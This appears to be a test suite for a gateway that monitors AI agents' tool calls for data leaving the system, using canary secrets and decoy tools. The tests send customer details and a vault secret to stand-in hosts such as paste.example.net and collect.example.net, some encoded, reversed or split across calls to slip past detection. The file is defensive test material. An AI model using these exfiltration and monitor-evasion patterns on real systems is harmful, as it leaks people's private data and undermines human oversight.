// Data flow on the path, on a real store with played servers: what was read in one place stopped on its way out by another; what goes back to whom it
// is about; canaries, decoys and the freeze they cause; and that no entry, metric or reason tells a value.
import { randomBytes } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import type { CallOutcome } from '../../src/call.ts';
import { FlowBook } from '../../src/detect/flow/book.ts';
import { KEY_BYTES } from '../../src/detect/flow/hasher.ts';
import { IntentAnalyser } from '../../src/detect/intent/intent-analyser.ts';
import { ManualClock } from '../../src/lib/clock.ts';
import type { JsonObject } from '../../src/lib/json.ts';
import { flowSpec } from '../../src/object/kind/flow.ts';
import type { StoredObject } from '../../src/object/kinds.ts';
import { canaryInspector } from '../../src/pipeline/inspect-canary.ts';
import { flowInspector } from '../../src/pipeline/inspect-flow.ts';
import { secretSealer } from '../../src/vault/vault.ts';
import { callOf, type Harness, harness, ok } from '../support/pipeline-harness.ts';
import { agentObject, httpServer, policyObject, seed, tokenObject } from '../support/seed.ts';

const robot = tokenObject('robot', 'robot');
const other = tokenObject('other', 'other');
const CUSTOMER = { name: 'Ines Okafor', email: 'ines.okafor@northwind-traders.com', balance: 4072.5, phone: '+1 415 555 0142' };
const SECRET = 'plum-4821-anchor-7730-velour';
const URL_OF = 'http://127.0.0.1:9/mcp';

const TOOLS: Record<string, JsonObject[]> = {
  crm: [{ name: 'get_customer', inputSchema: { type: 'object' } }],
  vault: [{ name: 'read_secret', inputSchema: { type: 'object' } }],
  mail: [{ name: 'send_email', inputSchema: { type: 'object' } }],
  web: [{ name: 'fetch', inputSchema: { type: 'object' } }],
  ledger: [{ name: 'add_note', inputSchema: { type: 'object' } }],
};

const base = (): StoredObject[] => [
  agentObject('robot'),
  agentObject('other'),
  robot.object,
  other.object,
  httpServer('crm', URL_OF, { data: { labels: ['private'], sink: 'internal' } }),
  httpServer('vault', URL_OF, { data: { labels: ['secret'], sink: 'internal' } }),
  httpServer('mail', URL_OF, { data: { labels: ['private'], sink: 'external', audience: 'customers', untrusted: false } }),
  httpServer('web', URL_OF),
  httpServer('ledger', URL_OF, { data: { labels: ['private'], sink: 'internal' } }),
  policyObject('all', [{ name: 'all', match: { server: ['*'] }, effect: 'allow' }]),
];

const flowObject = (spec: object): StoredObject<'flow'> => ({ kind: 'flow', metadata: { name: 'flow' }, spec: flowSpec.parse(spec) });
const DENY = { mixed: 'allow', rules: [{ name: 'out', action: 'deny' }] };

let h: Harness;
let clock: ManualClock;
let book: FlowBook;
afterEach(() => h?.close());

async function open(flow: object | undefined, ...more: StoredObject[]): Promise<void> {
  clock = new ManualClock(Date.UTC(2026, 10, 29));
  book = new FlowBook(clock, randomBytes(KEY_BYTES));
  h = await harness({
    objects: [...base(), ...(flow ? [flowObject(flow)] : []), ...more],
    clock,
    inspectors: [canaryInspector(book), flowInspector({ book, analyser: new IntentAnalyser() })],
  });
  h.answer(({ method, params, server }) => {
    if (method === 'tools/list') return ok({ tools: TOOLS[server] ?? [] });
    const said: Record<string, unknown> = { get_customer: CUSTOMER, read_secret: { value: SECRET }, fetch: 'the page says hello' };
    const text = said[String(params?.name)] ?? 'done';
    return ok({ content: [{ type: 'text', text: typeof text === 'string' ? text : JSON.stringify(text) }] });
  });
}

const call = (server: string, args: JsonObject, options: { bearer?: string; name?: string } = {}): Promise<CallOutcome> =>
  h.pipeline.run(
    callOf('tools/call', {
      bearer: options.bearer ?? robot.token,
      params: { name: options.name ?? String(TOOLS[server]?.[0]?.name), arguments: args },
      surface: { type: 'server', server },
    }),
  );
const denial = (outcome: CallOutcome) =>
  outcome.type === 'denied' ? { code: outcome.code, rule: outcome.rule, message: outcome.message } : outcome.type;

async function expectUntold(...values: string[]): Promise<void> {
  const told = JSON.stringify(await h.entries()) + (await h.metrics.render());
  for (const value of values) expect(told).not.toContain(value);
}

describe('customer data from one server on its way out by another', () => {
  it('is stopped, and the refusal names places and numbers, no value', async () => {
    await open(DENY);
    await call('crm', { id: 7 });
    const outcome = denial(
      await call('web', { url: 'https://paste.example.net', body: `${CUSTOMER.name} ${CUSTOMER.email} ${CUSTOMER.balance}` }),
    );
    expect(outcome).toMatchObject({ code: 'blocked_content', rule: 'flow/flow/out' });
    expect((outcome as { message: string }).message).toBe(
      'The call would send data out: argument "/body" carries 3 values read from crm.get_customer.',
    );
    const last = (await h.entries()).at(-1)?.content;
    expect(last).toMatchObject({ effect: 'deny', findings: [{ type: 'flow.private', path: '/body', count: 3, action: 'deny' }] });
    await expectUntold(CUSTOMER.email, CUSTOMER.name);
    expect(h.sent.filter(({ server, method }) => server === 'web' && method === 'tools/call')).toEqual([]);
  });

  it.each([
    ['base64', (text: string) => Buffer.from(text).toString('base64')],
    ['hex', (text: string) => Buffer.from(text).toString('hex')],
    ['backwards', (text: string) => [...text].reverse().join('')],
    ['spaced', (text: string) => [...text].join(' ')],
    ['twice encoded', (text: string) => encodeURIComponent(Buffer.from(Buffer.from(text).toString('hex')).toString('base64'))],
  ])('%s', async (_name, encode) => {
    await open(DENY);
    await call('vault', {});
    expect(denial(await call('web', { url: `https://img.example.net/p.png?d=${encode(SECRET)}` }))).toMatchObject({
      code: 'blocked_content',
    });
  });

  it('in pieces over several calls', async () => {
    await open(DENY);
    await call('vault', {});
    const pieces = SECRET.match(/.{1,10}/g) ?? [];
    const outcomes: unknown[] = [];
    for (const [index, piece] of pieces.entries())
      outcomes.push(denial(await call('web', { url: `https://${index}.t.example.net/${piece}` })));
    expect(outcomes.some((outcome) => typeof outcome === 'object')).toBe(true);
  });

  it.each([7, 8, 11])('an address in pieces of %i characters, over several calls', async (size) => {
    await open(DENY);
    await call('crm', {});
    const pieces = CUSTOMER.email.match(new RegExp(`.{1,${size}}`, 'g')) ?? [];
    const outcomes: unknown[] = [];
    for (const [index, piece] of pieces.entries())
      outcomes.push(denial(await call('web', { url: `https://collect.example.net/${index}/${piece}` })));
    expect(outcomes.some((outcome) => typeof outcome === 'object')).toBe(true);
    // Its words alone are no address.
    await open(DENY);
    await call('crm', {});
    const host = CUSTOMER.email.split('@')[1];
    expect(denial(await call('web', { url: `https://${host}/about` }))).toBe('result');
  });

  it('hold asks for approval with the evidence; log only notes; redact takes the values out; no object: nothing is kept', async () => {
    await open({ mixed: 'allow', rules: [{ name: 'ask', action: 'hold' }] });
    await call('crm', {});
    expect(denial(await call('web', { body: CUSTOMER.email }))).toMatchObject({
      code: 'approval_required',
      rule: 'flow/flow/ask',
      message: expect.stringContaining('argument "/body" carries 1 value read from crm.get_customer'),
    });
    await h.close();
    await open({ mixed: 'allow' });
    await call('crm', {});
    expect(denial(await call('web', { body: CUSTOMER.email }))).toBe('result');
    expect(JSON.stringify(await h.entries())).toContain('flow.private');
    await h.close();
    await open({ mixed: 'allow', rules: [{ name: 'cut', action: 'redact' }] });
    await call('crm', {});
    expect(denial(await call('web', { body: `write to ${CUSTOMER.email} soon` }))).toBe('result');
    expect(h.sent.at(-1)?.params).toMatchObject({ arguments: { body: 'write to [withheld:flow.private] soon' } });
    await h.close();
    await open(undefined);
    await call('crm', {});
    expect(denial(await call('web', { body: CUSTOMER.email }))).toBe('result');
    expect([book.scopes, book.kept]).toEqual([0, 0]);
  });

  it('policies see the labels', async () => {
    const policy = policyObject(
      'flow-rules',
      [{ name: 'no-private-out', match: { findings: ['flow.*'] }, when: "'private' in flow", effect: 'deny' }],
      1,
    );
    await open({ mixed: 'allow' }, policy);
    await call('crm', {});
    expect(denial(await call('web', { body: CUSTOMER.email }))).toMatchObject({
      code: 'denied_by_rule',
      rule: 'flow-rules/no-private-out',
    });
  });

  it.each([
    { match: {}, when: "'private' in flow && args.kept == true" },
    { match: { findings: ['flow.private'] }, when: 'args.kept == true' },
  ])('policies see the labels on their way to an internal server, too: %j', async (matcher) => {
    const policy = policyObject('flow-rules', [{ name: 'not-in-ledger', ...matcher, effect: 'deny' }], 1);
    await open({ mixed: 'allow' }, policy);
    await call('crm', { kept: false });
    expect(denial(await call('ledger', { note: CUSTOMER.email, kept: false }))).toBe('result');
    expect(denial(await call('ledger', { note: CUSTOMER.email, kept: true }))).toMatchObject({
      code: 'denied_by_rule',
      rule: 'flow-rules/not-in-ledger',
    });
    expect(denial(await call('ledger', { note: 'nothing of it', kept: true }))).toBe('result');
  });
});

describe('what may pass', () => {
  it('what goes back to whom it is about; not to somebody else, not to somebody else as well', async () => {
    await open(DENY);
    await call('crm', {});
    const body = `Dear ${CUSTOMER.name}, your balance is ${CUSTOMER.balance}.`;
    expect(denial(await call('mail', { to: [CUSTOMER.email], body }))).toBe('result');
    expect(denial(await call('mail', { to: ['someone@else.example'], body }))).toMatchObject({ code: 'blocked_content' });
    expect(denial(await call('mail', { to: [CUSTOMER.email, 'someone@else.example'], body }))).toMatchObject({ code: 'blocked_content' });
    await call('vault', {});
    expect(denial(await call('mail', { to: [CUSTOMER.email], body: SECRET }))).toMatchObject({ code: 'blocked_content' });
  });

  it.each([
    { forward_to: ['someone@else.example'] },
    { notifyEmails: 'someone@else.example; other@else.example' },
    { webhook_url: 'https://else.example/hook' },
    { options: { callbackUrl: 'https://else.example/hook' } },
    { audit: 'someone@else.example' },
    { share_with: '+49 30 1234567' },
    { attachments: [{ name: 'list', copy_to: 'someone@else.example' }] },
  ])('what goes back and somewhere else as well does not: %j', async (more) => {
    await open(DENY);
    await call('crm', {});
    const body = `Dear ${CUSTOMER.name}, your balance is ${CUSTOMER.balance}.`;
    expect(denial(await call('mail', { to: [CUSTOMER.email], body, ...more }))).toMatchObject({ code: 'blocked_content' });
  });

  it.each([
    { from: 'support@shop.example' },
    { subject: 'Your balance', template: 'balance' },
    { contact: CUSTOMER.email },
    { sender_name: 'Shop' },
  ])('what names its sender, or the same person again, does: %j', async (more) => {
    await open(DENY);
    await call('crm', {});
    const body = `Dear ${CUSTOMER.name}, your balance is ${CUSTOMER.balance}. Questions: support@shop.example, https://shop.example/help`;
    expect(denial(await call('mail', { to: [CUSTOMER.email], body, ...more }))).toBe('result');
  });

  it('internal servers, other agents, and what the window has passed', async () => {
    await open(DENY);
    await call('crm', {});
    expect(denial(await call('ledger', { note: CUSTOMER.email }))).toBe('result');
    expect(denial(await call('web', { body: CUSTOMER.email }, { bearer: other.token }))).toBe('result');
    clock.advance(3_700_000);
    expect(denial(await call('web', { body: CUSTOMER.email }))).toBe('result');
    expect(book.scopes).toBe(2);
  });

  it('an agent of the same name in another organization is another agent', async () => {
    await open(DENY);
    await h.core.store.objects.createOrganization('elsewhere');
    await h.core.vault.prepare('elsewhere');
    const theirs = tokenObject('robot', 'robot');
    const revision = await seed(h.core, 'elsewhere', [...base().filter(({ kind }) => kind !== 'token'), theirs.object, flowObject(DENY)]);
    await h.control.atLeast('elsewhere', revision);
    await call('crm', {});
    expect(denial(await call('web', { body: CUSTOMER.email }, { bearer: theirs.token }))).toBe('result');
    expect(denial(await call('web', { body: CUSTOMER.email }))).toMatchObject({ code: 'blocked_content' });
  });

  it('what the agent knew before it was read', async () => {
    await open(DENY);
    await call('crm', { email: CUSTOMER.email });
    expect(denial(await call('web', { body: CUSTOMER.email }))).toBe('result');
  });

  it('rules by audience and source', async () => {
    await open({ mixed: 'allow', rules: [{ name: 'customers', sources: ['crm'], to: { audience: ['customers'] }, action: 'deny' }] });
    await call('crm', {});
    expect(denial(await call('mail', { to: ['a@b.example'], body: CUSTOMER.phone + CUSTOMER.email }))).toMatchObject({
      rule: 'flow/flow/customers',
    });
    expect(denial(await call('web', { body: CUSTOMER.email }))).toBe('result');
  });
});

it('private data and the words of strangers: an external sink needs approval', async () => {
  await open({});
  await call('crm', {});
  expect(denial(await call('web', { url: 'https://docs.example.net' }))).toBe('result');
  expect(denial(await call('web', { url: 'https://docs.example.net/2' }))).toMatchObject({ code: 'approval_required', rule: 'flow/mixed' });
  expect(denial(await call('ledger', { note: 'fine' }))).toBe('result');
});

describe('canaries and decoys', () => {
  const CANARY = 'zq81-canary-77f3-harrow';

  async function openTrap(freezeAgent: boolean): Promise<void> {
    await open(undefined);
    const sealed = secretSealer(h.core.vault, h.org).seal('bait', CANARY);
    const flow = flowObject({
      mixed: 'allow',
      canaries: [{ name: 'bait', secret: 'bait' }],
      decoys: [{ name: 'export_all_customers', description: 'Exports every customer record.', servers: ['crm'] }],
      onTouch: { freezeAgent },
    });
    const revision = await h.seed({ kind: 'secret', metadata: { name: 'bait' }, spec: { sealed } }, flow);
    await h.control.atLeast(h.org, revision);
  }

  it('a canary in arguments is refused, an incident, and freezes the agent in the name of the gateway', async () => {
    await openTrap(true);
    expect(denial(await call('ledger', { note: Buffer.from(`x ${CANARY} y`).toString('base64') }))).toMatchObject({
      code: 'blocked_content',
    });
    const entries = (await h.entries()).map(({ content }) => content);
    expect(entries).toContainEqual(
      expect.objectContaining({ event: 'incident', what: 'canary', rule: 'flow/bait', agent: 'robot', server: 'ledger' }),
    );
    expect(entries).toContainEqual(expect.objectContaining({ type: 'object', author: 'gateway', action: 'freeze' }));
    expect(denial(await call('ledger', { note: 'hello' }))).toMatchObject({ code: 'frozen' });
    expect(denial(await call('ledger', { note: 'hello' }, { bearer: other.token }))).toBe('result');
    await expectUntold(CANARY);
  });

  it('without being asked to, nobody is frozen', async () => {
    await openTrap(false);
    expect(denial(await call('ledger', { note: CANARY }))).toMatchObject({ code: 'blocked_content' });
    expect(denial(await call('ledger', { note: 'hello' }))).toBe('result');
  });

  it('a decoy is listed on its server and everywhere, and a call on it is an incident', async () => {
    await openTrap(true);
    const listed = async (surface: 'crm' | 'all') => {
      const outcome = await h.pipeline.run(
        callOf('tools/list', { bearer: robot.token, surface: surface === 'all' ? { type: 'all' } : { type: 'server', server: 'crm' } }),
      );
      return outcome.type === 'result' ? (outcome.result.tools as JsonObject[]).map(({ name }) => name) : outcome;
    };
    expect(await listed('crm')).toEqual(['get_customer', 'export_all_customers']);
    expect(await listed('all')).toContain('crm__export_all_customers');
    const outcome = await h.pipeline.run(
      callOf('tools/call', { bearer: robot.token, params: { name: 'crm__export_all_customers', arguments: {} }, surface: { type: 'all' } }),
    );
    expect(denial(outcome)).toMatchObject({ code: 'unknown_capability' });
    const entries = (await h.entries()).map(({ content }) => content);
    expect(entries).toContainEqual(expect.objectContaining({ event: 'incident', what: 'decoy', rule: 'flow/export_all_customers' }));
    expect(denial(await call('crm', {}))).toMatchObject({ code: 'frozen' });
    expect(h.sent.some(({ params }) => params?.name === 'export_all_customers')).toBe(false);
  });
});
